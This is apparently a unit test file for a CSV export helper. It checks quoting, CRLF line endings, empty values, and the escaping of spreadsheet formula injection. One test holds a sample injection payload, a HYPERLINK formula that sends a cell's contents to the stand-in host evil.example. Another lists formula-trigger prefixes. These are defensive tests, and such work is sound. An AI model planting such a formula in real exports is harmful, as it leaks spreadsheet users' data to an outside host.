import { toCsv } from './csv';

describe('CSV exports', () => {
  it('writes a header row and one row per record, each line ended by CRLF', () => {
    expect(toCsv(['weekday', 'hour', 'area'], [['friday', 14, 'u178mc']])).toBe('weekday,hour,area\r\nfriday,14,u178mc\r\n');
    expect(toCsv(['weekday', 'hour'], [])).toBe('weekday,hour\r\n');
  });

  it('neutralises a text cell a spreadsheet would run as a formula', () => {
    const csv = toCsv(['rider_id', 'count'], [['=HYPERLINK("https://evil.example/?leak="&A1,"open me")', 3]]);
    expect(csv).toBe('rider_id,count\r\n"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""open me"")",3\r\n');
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\tcmd', '\rcmd'])('puts a quote before a text cell starting %j', (text) => {
    const [, row] = toCsv(['x'], [[text]]).split('\r\n');
    expect(row.replace(/^"|"$/g, '')).toBe(`'${text}`);
  });

  it('leaves numbers alone, negative ones too: they are not text anyone typed', () => {
    expect(toCsv(['minutes', 'ratio'], [[-15, -0.5]])).toBe('minutes,ratio\r\n-15,-0.5\r\n');
  });

  it('quotes what needs quoting, and writes nothing for a missing value', () => {
    expect(toCsv(['name', 'note', 'rider'], [['Smith, Jo', 'said "hi"\nthen left', null]])).toBe(
      'name,note,rider\r\n"Smith, Jo","said ""hi""\nthen left",\r\n',
    );
  });
});
